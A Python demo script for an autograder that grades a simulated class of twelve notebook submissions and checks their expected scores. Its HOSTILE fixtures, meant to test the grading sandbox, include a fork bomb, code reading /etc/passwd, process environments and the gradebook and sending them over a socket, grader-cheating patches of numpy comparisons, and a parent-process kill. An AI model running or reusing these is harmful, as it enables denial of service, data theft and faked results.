"""The demo: a course of its own in `build/demo`, a sample class of twelve, graded from uploads to report.

It never touches a real gradebook; what each student must get follows from the table of tasks and from the checks, and
is compared with what they got.
"""

import json
import shutil
import sys
from dataclasses import dataclass, field

import nbformat

from autograder import build, engine, feedback, grade, gradebook, hidden, ingest, registry, release, report
from autograder.__main__ import class_table
from autograder.results import dump_json, write_atomically

NAME = "a02_backpropagation"
ANSWERS = {
    "why_sum": "The node's value reaches the loss along several paths, and a small change travels along each of them.",
    "what_the_net_learnt": (
        "100 hidden units, learning rate 0.2, 10 epochs. The loss starts at 2.47, a little above log 10, as the net"
        " knows nothing and pays the penalty. Over 20 seeds it reaches 85.8% on the held-out pictures and 84.4% on the"
        " test pictures. It takes shirts for T-shirts and coats, which differ in sleeves and collars of a few pixels."
    ),
}

# Who makes which classic mistake; one is made by three, so that pages may speak of it.
MISTAKES = {
    "cleo": {"affine_backward": "db_averaged", "softmax_loss": "loss_summed", "init_weights": "variance_as_deviation"},
    "gus": {"affine_backward": "db_averaged", "softmax_loss": "one_hot_forgotten"},
    "hana": {"affine_backward": "db_averaged", "init_weights": "he_without_two"},
}

ENDLESS = {
    "affine_forward": '''
def affine_forward(x, w, b):
    """Adds up rows until none is left, but never takes one away."""
    out, left = np.zeros((len(x), w.shape[1])), len(x)
    while left > 0:
        out[left - 1] = x[left - 1] @ w + b
    return out, (x, w)
'''
}

CRASHING = {
    "softmax_loss": '''
def softmax_loss(x, y):
    """Views memory far beyond its array, and ends the process."""
    rows = np.lib.stride_tricks.as_strided(x, shape=(len(x), 10**6), strides=(10**9, 10**6))
    return rows.sum(), rows
'''
}

HOSTILE = {
    "affine_forward": '''
import os
def affine_forward(x, w, b):
    """A fork bomb."""
    while True:
        try:
            os.fork()
        except OSError:
            pass
''',
    "affine_backward": '''
import os, socket, subprocess
def affine_backward(dout, cache):
    """Tries the network, other submissions and the gradebook, then answers with what it found."""
    found = []
    for path in ("/", "/etc/passwd", "/root", os.getcwd(), "/proc/1/environ", "gradebook.db", "../gradebook.db"):
        try:
            found.append(open(path, "rb").read())
        except OSError:
            found.append(b"")
    try:
        socket.create_connection(("127.0.0.1", 80), timeout=1).send(b"".join(found))
        socket.getaddrinfo("example.org", 80)
    except OSError:
        pass
    return tuple(np.full(array.shape, len(b"".join(found)), dtype=float) for array in (*cache, dout[0]))
''',
    "softmax_loss": '''
import gc, sys
def softmax_loss(x, y):
    """Looks for expected values in frames and in memory, patches the comparison, and returns a liar."""
    class Liar(np.ndarray):
        __eq__ = __ne__ = __le__ = __array_function__ = lambda self, *a, **k: True
    np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and "want" in value:
                return value["want"]
        frame = frame.f_back
    return 0.0, np.zeros_like(x).view(Liar)
''',
    "train_classifier": '''
import os
def train_classifier(x_train, y_train, x_test, rng):
    """Ends the process that is grading it."""
    os.kill(os.getppid(), 9)
    os._exit(0)
''',
}


@dataclass(frozen=True)
class Sample:
    """A student of the sample class: what they upload, and what follows for their score.

    ``cells`` are the cells they changed. Of the tasks graded automatically, those in ``right`` earn all points, those
    in ``mistakes`` what the check gives for that known mistake, all others nothing. ``first_upload`` is one that a
    later one replaces. ``colab`` strips the notebook as Colab saves it. ``cut`` ends the file in the middle. ``given``
    holds, by written question, the share of the points that a person gives, and the comment.
    """

    student: str
    about: str
    upload: str = ""
    cells: dict = field(default_factory=dict)
    right: tuple = ()
    mistakes: dict = field(default_factory=dict)
    answers: dict = field(default_factory=dict)
    first_upload: str = ""
    first_cells: dict = field(default_factory=dict)
    colab: bool = False
    cut: bool = False
    hostile: bool = False
    given: dict = field(default_factory=dict)

    @property
    def status(self):
        """What ingest and grading must make of the upload as a whole."""
        return "missing" if not self.upload else "unreadable" if self.cut else "graded"


def solutions():
    """The course's own cells, numeric answers included."""
    tasks = registry.assignment(NAME).tasks
    code = {task.id: engine.solution(task.id) for task in tasks if task.is_code}
    return code | {task.id: f"{task.id} = {task.answer}" for task in tasks if task.kind == "numeric"}


def sample_class():
    """The twelve students of the demo, made from the course's sources, so that they follow every change of a task."""
    solved = solutions()
    every = tuple(solved)
    # A backward pass in another style reads the course's cache, so its forward pass stays the course's.
    other = {
        name: registry.alternatives(name)[-1].source
        for name in every
        if registry.task(name).is_code and name.replace("_forward", "_backward") not in solved.keys() - {name}
    }
    half = {name: solved[name] for name in every[: len(every) // 2]}

    def mistaken(student, about, upload, **options):
        mistakes = MISTAKES[student]
        right = tuple(name for name in every if name not in mistakes)
        cells = solved | {task: _mistake(task, name) for task, name in mistakes.items()}
        return Sample(student, about, upload, cells, right, mistakes, **options)

    def half_but(broken):
        return {"cells": half | broken, "right": tuple(name for name in half if name not in broken)}

    def upload(student, number, file=f"{NAME}.ipynb"):
        return f"{student}_{1000 + number}_{5000 + number}_{file}"

    return [
        Sample(
            "ada", "all right", upload("ada", 1), solved, every, answers=ANSWERS,
            given=dict.fromkeys(ANSWERS, (1.0, "Complete, and in your own words. Well done.")),
        ),
        Sample(
            "ben", "another style, renamed file", upload("ben", 2, "a02 final version (1).ipynb"), solved | other,
            every, answers={"why_sum": "Because of the chain rule."},
            given={
                "why_sum": (0.5, "True, but why a sum? Follow one small change of the node."),
                "what_the_net_learnt": (0.0, "There is nothing here. Hand in a report and you get its points."),
            },
        ),
        mistaken("cleo", "classic mistakes", upload("cleo", 3), answers=ANSWERS),
        Sample("dan", "half done", upload("dan", 4), half, tuple(half), answers=ANSWERS),
        Sample("eve", "blank", upload("eve", 5)),
        Sample("fay", "nothing handed in"),
        mistaken("gus", "saved by Colab without metadata", upload("gus", 7), colab=True, answers=ANSWERS),
        mistaken(
            "hana", "a late second upload", upload("hana_LATE", 8, f"{NAME}-1.ipynb"),
            first_upload=f"hana_1008_4008_{NAME}.ipynb", first_cells=half, answers=ANSWERS,
        ),
        Sample("ivo", "an endless loop", upload("ivo", 9), **half_but(ENDLESS)),
        Sample("jun", "a crash", upload("jun", 10), **half_but(CRASHING)),
        Sample("kim", "an unreadable upload", upload("kim", 11), solved, cut=True),
        Sample("mal", "hostile", upload("mal", 12), HOSTILE, hostile=True),
    ]  # fmt: skip


def _mistake(task, name):
    return next(variant.source for variant in registry.misconceptions(task) if variant.name == name)


def expected_score(sample, course):
    """The automatic score that a student of the sample class must get; None where nothing can be read."""
    if sample.status == "unreadable":
        return None
    earned = [registry.task(name).points for name in sample.right]
    for name, mistake in sample.mistakes.items():
        wanted = hidden.hidden_expectation(course, name)
        outcome = hidden.verdicts({name: (wanted, wanted.wrong[mistake])}).outcomes[name]
        earned.append(round(registry.task(name).points * outcome.fraction, 2))
    return round(sum(earned), 2)


def run(course=registry.ROOT / "build" / "demo"):
    """Run the whole story, print where to look, and return 0 if every student got what they should."""
    warning = engine.sandbox_warning()
    shutil.rmtree(course, ignore_errors=True)
    students = [sample for sample in sample_class() if not (warning and sample.hostile)]
    print(f"1. Build and release {NAME}")
    config = registry.ROOT / "nbgrader_config.py"
    write_atomically(
        course / "nbgrader_config.py", f"get_config()  # noqa: F821\nload_subconfig({str(config)!r})  # noqa: F821\n"
    )
    build.build(NAME, course)
    archive = release.release(NAME, course)
    print(f"   {archive}")
    uploads = write_uploads(students, course)
    print(f"2. Ingest the uploads of {len(students)} students from {uploads}")
    ingest.ingest(NAME, uploads, course, roster=uploads.parent / "roster.csv")
    print(f"3. Grade. {warning} The hostile sample is left out." if warning else "3. Grade in the sandbox")
    graded = grade.grade(course, NAME)
    write_atomically(course / "results.json", dump_json([result.to_json() for result in graded]))
    print(class_table(graded))
    by_hand = [sample for sample in students if sample.given]
    print(f"4. Grade written answers by hand: {', '.join(sample.student for sample in by_hand)}")
    grade_by_hand(by_hand, course)
    pages = feedback.write_feedback(course, NAME)
    found = report.class_report(course, NAME)
    html, *tables = found.write(course)
    print(f"   {found.summary()}")
    print("5. Look at")
    print(f"   released notebook   {build.release_path(NAME, course)}")
    print(f"   gradebook           {course / 'gradebook.db'}")
    print(f"   feedback            {pages['cleo']}")
    print(f"   class report        {html}, with {len(tables)} tables as CSV beside it")
    shown = course.relative_to(registry.ROOT) if course.is_relative_to(registry.ROOT) else course
    print(f"   hand grading        cd {shown} && {sys.executable} -m jupyterlab   (menu Nbgrader, Formgrader)")
    return _compare(students, graded, course)


def write_uploads(students, course):
    """Write the sample class's uploads as a learning platform would deliver them, and a roster with all their names."""
    folder = course / "sample_uploads"
    folder.mkdir(parents=True, exist_ok=True)
    skeleton = nbformat.read(build.release_path(NAME, course), as_version=4)
    for sample in students:
        if not sample.upload:
            continue
        text = nbformat.writes(filled(skeleton, sample))
        (folder / sample.upload).write_text(text[: len(text) // 2] if sample.cut else text, encoding="utf-8")
        if sample.first_upload:
            first = Sample(sample.student, "first upload", cells=sample.first_cells)
            nbformat.write(filled(skeleton, first), folder / sample.first_upload)
    write_atomically(
        course / "roster.csv", "".join(f"{name}\n" for name in ("student", *(s.student for s in students)))
    )
    return folder


def filled(skeleton, sample):
    """A copy of the released notebook with a student's cells in it, stripped of metadata if Colab saved it."""
    notebook = nbformat.from_dict(json.loads(json.dumps(skeleton)))
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if name in sample.cells:
            cell.source = f"# task: {name}\n{sample.cells[name]}"
        question = cell.metadata.get("numnet", {}).get("answer")
        if question in sample.answers:
            cell.source = f"{cell.source.splitlines()[0]}\n\n{sample.answers[question]}"
        if sample.colab:
            cell.metadata.clear()
            del cell["id"]
    if sample.colab:
        notebook.nbformat_minor = 0
        notebook.metadata = {"colab": {"provenance": []}, "kernelspec": {"name": "python3", "display_name": "Python 3"}}
    return notebook


def grade_by_hand(students, course):
    """Enter scores and comments for written answers through nbgrader's api, as the formgrader does."""
    with gradebook.only_writer(course), gradebook.opened(gradebook.settings(course)) as book:
        for sample in students:
            for question, (share, comment) in sample.given.items():
                given = book.find_grade(question, NAME, NAME, sample.student)
                given.manual_score, given.needs_manual_grade = share * registry.task(question).points, False
                book.find_comment(question, NAME, NAME, sample.student).manual_comment = comment
        book.db.commit()


def _compare(students, graded, course):
    """Say whose score or status differs from what the sample class must get; 0 if nobody's does."""
    results = {result.student: result for result in graded}
    totals = {student.id: student.total for student in gradebook.class_scores(course, NAME)}
    wrong = []
    for sample in students:
        must, result = expected_score(sample, course), results[sample.student]
        by_hand = sum(share * registry.task(question).points for question, (share, _) in sample.given.items())
        if (result.score, result.status) != (must, sample.status):
            wrong.append(f"must be {sample.status} with {must} points, but is {result.status} with {result.score}")
        elif sample.status == "graded" and totals[sample.student] != round(must + by_hand, 2):
            wrong.append(
                f"has {totals[sample.student]} points in the gradebook, but {must} automatic ones in the results"
            )
        else:
            continue
        wrong[-1] = f"{sample.student} ({sample.about}) {wrong[-1]}."
    print("\n".join(wrong) or "Every student of the sample class has the score they must have.")
    return 1 if wrong else 0
